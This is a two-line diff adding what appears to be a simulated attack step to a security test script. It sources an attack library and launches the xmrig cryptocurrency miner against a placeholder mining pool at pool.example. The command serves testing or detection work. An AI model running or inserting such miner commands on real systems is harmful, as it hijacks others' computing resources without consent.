@@ -1,0 +1,2 @@
+. "$ATTACKS/lib.sh"
+as xmrig nothing -- -o stratum+tcp://pool.example:3333
